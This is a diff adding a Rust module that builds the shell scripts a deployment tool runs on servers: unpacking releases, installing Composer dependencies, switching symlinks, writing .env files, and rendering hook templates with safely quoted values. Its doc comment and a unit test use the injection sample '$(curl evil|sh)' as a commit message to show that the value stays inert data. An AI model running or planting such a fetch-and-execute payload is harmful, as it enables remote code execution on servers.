@@ -1,0 +1,313 @@
+//! The shell scripts a deployment runs on a server. Every value in them is either validated
+//! text from this module or passed through `quote`: nothing from a request or a commit is
+//! pasted in as code.
+
+use crate::ssh::quote;
+
+/// Where a release goes on one server.
+#[derive(Debug, Clone)]
+pub struct Layout {
+    /// The server's deployment path (holds `current`, `releases`, `storage`, `.env`).
+    pub base: String,
+    /// The release directory's name, `YmdHis`.
+    pub time: String,
+}
+
+impl Layout {
+    pub fn releases(&self) -> String {
+        format!("{}/releases", self.base)
+    }
+
+    pub fn release(&self) -> String {
+        format!("{}/releases/{}", self.base, self.time)
+    }
+
+    pub fn current(&self) -> String {
+        format!("{}/current", self.base)
+    }
+}
+
+/// A linked folder: `release/{from}` → `{base}/{to}` (both validated relative paths).
+#[derive(Debug, Clone)]
+pub struct Link {
+    pub from: String,
+    pub to: String,
+}
+
+/// Clone New Release: unpacks the archive arriving on standard input into a new release
+/// directory, records the commit and links the shared files and folders.
+pub fn clone(layout: &Layout, sha: &str, laravel: bool, links: &[Link]) -> String {
+    let base = quote(&layout.base);
+    let release = quote(&layout.release());
+    let mut script = format!(
+        "set -eu\n\
+         mkdir -p {base}/releases\n\
+         rm -rf {release}\n\
+         mkdir {release}\n\
+         tar -x -f - -C {release}\n\
+         printf '%s\\n' {sha} > {release}/REVISION\n\
+         ln -sfn {env} {release}/.env\n",
+        sha = quote(sha),
+        env = quote(&format!("{}/.env", layout.base)),
+    );
+    if laravel {
+        let storage = quote(&format!("{}/storage", layout.base));
+        script.push_str(&format!(
+            "if [ ! -d {storage} ]; then\n\
+             \x20 if [ -d {release}/storage ]; then cp -a {release}/storage {storage}; \
+             else mkdir -p {storage}; fi\n\
+             fi\n\
+             mkdir -p {storage}/app/public {storage}/framework/cache {storage}/framework/sessions \
+             {storage}/framework/views {storage}/logs\n\
+             rm -rf {release}/storage\n\
+             ln -s {storage} {release}/storage\n"
+        ));
+    }
+    for link in links {
+        let target = quote(&format!("{}/{}", layout.base, link.to));
+        let source = quote(&format!("{}/{}", layout.release(), link.from));
+        script.push_str(&format!(
+            "mkdir -p {target}\n\
+             rm -rf {source}\n\
+             mkdir -p \"$(dirname {source})\"\n\
+             ln -s {target} {source}\n"
+        ));
+    }
+    script
+}
+
+/// Install Composer Dependencies, in the new release.
+pub fn composer(layout: &Layout, composer_path: &str, dev: bool, quiet: bool) -> String {
+    let mut command = format!(
+        "set -eu\ncd {}\n{} install --no-interaction --prefer-dist --optimize-autoloader",
+        quote(&layout.release()),
+        quote(composer_path)
+    );
+    if !dev {
+        command.push_str(" --no-dev");
+    }
+    if quiet {
+        command.push_str(" --quiet");
+    }
+    command.push('\n');
+    command
+}
+
+/// Prints where `current` points now (nothing when there is no `current` yet).
+pub fn read_current(layout: &Layout) -> String {
+    format!("readlink {} || true\n", quote(&layout.current()))
+}
+
+/// Activate New Release: a link under a temporary name renamed over `current` (rename(2) is
+/// atomic, so there is never a moment without `current`), then a PHP-FPM reload if asked.
+pub fn activate(layout: &Layout, reload_fpm: Option<&str>) -> String {
+    let mut script = switch(layout, &layout.release());
+    if let Some(service) = reload_fpm {
+        let service = quote(service);
+        script.push_str(&format!(
+            "( sudo -n systemctl reload {service} 2>/dev/null || sudo -n service {service} reload )\n"
+        ));
+    }
+    script
+}
+
+/// Points `current` at `target` atomically.
+pub fn switch(layout: &Layout, target: &str) -> String {
+    let temporary = quote(&format!("{}/.current-{}", layout.base, layout.time));
+    format!(
+        "set -eu\n\
+         ln -sfn {target} {temporary}\n\
+         mv -T {temporary} {current}\n",
+        target = quote(target),
+        current = quote(&layout.current()),
+    )
+}
+
+/// The PHP-FPM service of a PHP version slug: `php83` → `php8.3-fpm`.
+pub fn fpm_service(php_version: &str) -> Option<String> {
+    let digits = php_version.strip_prefix("php")?;
+    let (major, minor) = digits.split_at_checked(1)?;
+    (major.chars().all(|c| c.is_ascii_digit()) && minor.chars().all(|c| c.is_ascii_digit()))
+        .then(|| format!("php{major}.{minor}-fpm"))
+}
+
+/// Purge Old Releases: keeps the newest `retain` releases and never the live one. Release
+/// names are digits only, so the listing is safe to iterate.
+pub fn purge(layout: &Layout, retain: i64) -> String {
+    format!(
+        "set -eu\n\
+         cd {releases}\n\
+         live=\"$(basename \"$(readlink {current} || true)\")\"\n\
+         ls -1 | grep -E '^[0-9]+$' | sort -r | tail -n +{keep} | while read -r old; do\n\
+         \x20 if [ \"$old\" != \"$live\" ]; then rm -rf -- \"$old\"; fi\n\
+         done\n",
+        releases = quote(&layout.releases()),
+        current = quote(&layout.current()),
+        keep = retain.max(1) + 1,
+    )
+}
+
+/// Removes the new release unless it is live (after a failure or a cancel).
+pub fn remove_release(layout: &Layout) -> String {
+    format!(
+        "if [ \"$(readlink {current} || true)\" != {release} ]; then rm -rf {release}; fi\n",
+        current = quote(&layout.current()),
+        release = quote(&layout.release()),
+    )
+}
+
+/// Refresh Server Connection: can the deployment path be created and written, and which
+/// tools are there.
+pub fn check(base: &str) -> String {
+    format!(
+        "set -e\n\
+         mkdir -p {base}/releases\n\
+         probe={base}/.slipway-probe-$$\n\
+         : > \"$probe\" && rm -f \"$probe\"\n\
+         for tool in tar php composer; do command -v \"$tool\" >/dev/null 2>&1 && printf 'tool:%s\\n' \"$tool\"; done\n\
+         exit 0\n",
+        base = quote(base)
+    )
+}
+
+/// Writes the `.env` arriving on standard input as `{base}/.env`: a temporary file, then a
+/// rename, readable by its owner only.
+pub fn write_env(base: &str) -> String {
+    let base_q = quote(base);
+    let temporary = quote(&format!("{base}/.env.slipway-new"));
+    format!(
+        "set -eu
+         umask 077
+         mkdir -p {base_q}
+         cat > {temporary}
+         chmod 600 {temporary}
+         mv -f {temporary} {env}
+",
+        env = quote(&format!("{base}/.env"))
+    )
+}
+
+/// The template variables of hooks: `{{ name }}` or `{{name}}`.
+pub const HOOK_VARIABLES: &[&str] = &[
+    "release", "time", "project", "sha", "branch", "author", "message", "name", "php", "composer",
+];
+
+/// A hook's script with each known `{{ var }}` turned into a reference to a shell variable
+/// that a preamble sets to the value, single-quoted. A commit message like `$(curl evil|sh)`
+/// is data, never code.
+pub fn hook(script: &str, values: &[(&str, &str)]) -> String {
+    let mut preamble = String::new();
+    for (name, value) in values {
+        preamble.push_str(&format!(
+            "SLIPWAY_{}={}\n",
+            name.to_ascii_uppercase(),
+            quote(value)
+        ));
+    }
+    let mut body = String::with_capacity(script.len());
+    let mut rest = script;
+    while let Some(start) = rest.find("{{") {
+        body.push_str(&rest[..start]);
+        let after = &rest[start + 2..];
+        let replaced = after.find("}}").and_then(|end| {
+            let name = after[..end].trim();
+            values
+                .iter()
+                .any(|(known, _)| *known == name)
+                .then(|| (format!("${{SLIPWAY_{}}}", name.to_ascii_uppercase()), end))
+        });
+        match replaced {
+            Some((reference, end)) => {
+                body.push_str(&reference);
+                rest = &after[end + 2..];
+            }
+            None => {
+                body.push_str("{{");
+                rest = after;
+            }
+        }
+    }
+    body.push_str(rest);
+    format!("{preamble}{body}\n")
+}
+
+/// Where a supervised process's group id is kept on the server. The node's id is part of the
+/// name so that two Slipway installations deploying to one server never share a file.
+pub fn pidfile(node: &str, deployment: i64, process: i64) -> String {
+    let node: String = node
+        .chars()
+        .filter(|c| c.is_ascii_alphanumeric() || *c == '-')
+        .collect();
+    format!("/tmp/slipway-{node}-{deployment}-{process}.pid")
+}
+
+/// Runs `script` in a session of its own whose id is written to `pidfile`, so that a cancel
+/// or a timeout can stop the whole process group (`setsid -w` keeps the exit status).
+pub fn supervised(script: &str, pidfile: &str) -> String {
+    let body = format!(
+        "echo $$ > {pid}\ntrap 'rm -f {pid}' EXIT\n{script}",
+        pid = quote(pidfile)
+    );
+    format!("setsid -w bash -c {}", quote(&body))
+}
+
+/// Stops what `supervised` started: TERM to the group, KILL if it lingers. A command sent
+/// just before the cancel may not have written its pidfile yet, so it is given a moment.
+pub fn kill(pidfile: &str) -> String {
+    let pid = quote(pidfile);
+    format!(
+        "for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do [ -f {pid} ] && break; sleep 0.1; done; \
+         if [ -f {pid} ]; then group=\"$(cat {pid})\"; \
+         kill -TERM -- \"-$group\" 2>/dev/null || true; \
+         for _ in 1 2 3 4 5 6 7 8 9 10; do kill -0 -- \"-$group\" 2>/dev/null || break; sleep 0.2; done; \
+         kill -KILL -- \"-$group\" 2>/dev/null || true; rm -f {pid}; fi\n"
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn hook_variables_become_quoted_shell_variables() {
+        let rendered = hook(
+            "echo \"{{ message }}\" {{sha}} {{ unknown }} {{release}}",
+            &[
+                ("message", "$(curl evil|sh) it's"),
+                ("sha", "abc"),
+                ("release", "/srv/r/1"),
+            ],
+        );
+        assert!(rendered.starts_with("SLIPWAY_MESSAGE='$(curl evil|sh) it'\\''s'\n"));
+        assert!(rendered.contains(
+            "echo \"${SLIPWAY_MESSAGE}\" ${SLIPWAY_SHA} {{ unknown }} ${SLIPWAY_RELEASE}"
+        ));
+    }
+
+    #[test]
+    fn hook_scripts_without_placeholders_are_kept() {
+        assert_eq!(hook("npm run prod", &[]), "npm run prod\n");
+        assert_eq!(
+            hook("echo {{ open", &[("open", "x")]),
+            "SLIPWAY_OPEN='x'\necho {{ open\n"
+        );
+    }
+
+    #[test]
+    fn fpm_services() {
+        assert_eq!(fpm_service("php83").as_deref(), Some("php8.3-fpm"));
+        assert_eq!(fpm_service("php74").as_deref(), Some("php7.4-fpm"));
+        assert_eq!(fpm_service("node"), None);
+    }
+
+    #[test]
+    fn paths_are_quoted() {
+        let layout = Layout {
+            base: "/srv/it's".into(),
+            time: "20261122101530".into(),
+        };
+        let script = activate(&layout, None);
+        assert!(script.contains("'/srv/it'\\''s/releases/20261122101530'"));
+        assert!(script.contains("mv -T"));
+    }
+}
